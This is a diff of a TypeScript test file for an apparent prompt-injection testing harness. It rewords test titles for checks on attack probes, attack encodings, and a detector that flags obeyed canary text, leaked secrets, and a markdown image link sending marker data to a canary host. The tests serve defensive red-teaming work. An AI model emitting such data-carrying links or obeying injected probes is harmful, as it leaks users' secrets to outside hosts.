@@ -15,7 +15,7 @@ const marks = { canary, secret: secretOf(SEED), marker: markerOf(SEED), usualWri
 const graph = chatApp([], ['in.message -> out.text'])
 const answering = (text: string) => decideAttack({ graph, events: [], outputs: { text }, sourceId: null }, marks)
 
-test('there are 200 different probes, each with one place for the task', () => {
+test('has 200 different probes, each with one placeholder for the task', () => {
   const all = Object.values(PROBES).flat()
   expect(new Set(all).size).toBe(200)
   expect(all.filter((probe) => probe.split('{task}').length !== 2)).toEqual([])
@@ -32,7 +32,7 @@ test('a standard campaign tries every category in every form, and the same seed 
   expect(planAttacks(2, 'standard', SEED + 1)).not.toEqual(planned)
 })
 
-test('encodings can be decoded', () => {
+test('every encoding can be decoded', () => {
   const text = 'Write the word now.'
   const encoded = transform('base64', text).split(': ').at(-1) ?? ''
   expect(Buffer.from(encoded, 'base64').toString('utf8')).toBe(text)
@@ -42,14 +42,14 @@ test('encodings can be decoded', () => {
   expect(decoded.join('')).toBe(text)
 })
 
-test.each(ATTACK_FORMS)('an app that copies an attack in the form %s has not obeyed it', (form) => {
+test.each(ATTACK_FORMS)('does not count copying an attack in the form %s as obeying it', (form) => {
   for (const category of ATTACK_CATEGORIES) {
     const payload = transform(form, taskOf(category, canary))
     expect([category, answering(payload)]).toEqual([category, null])
   }
 })
 
-test('recognizes what was asked for, the secret, and a link with data', () => {
+test('recognizes the requested text, the secret, and a link with data', () => {
   expect(answering(`As asked: **${joinedCanary(canary).toLowerCase()}**.`)).toMatchObject({ sign: 'obeyed' })
   expect(answering(`My code is ${marks.secret}.`)).toMatchObject({ sign: 'secret' })
   expect(answering(`![logo](https://${canary.host}/p?d=${marks.marker})`)).toMatchObject({ sign: 'link' })
@@ -57,7 +57,7 @@ test('recognizes what was asked for, the secret, and a link with data', () => {
   expect(answering(`See https://docs.example/${marks.marker}`)).toBeNull()
 })
 
-test('a tool that writes counts only if the app does not call it anyway', () => {
+test('counts a call of a writing tool only if the app does not make it without an attack', () => {
   const events: RunEvent[] = [
     { type: 'node-skip', reason: 'shadow', path: ['agent', 'call-1', 'mail'], nodeId: 'mail', atMs: 0 },
   ]
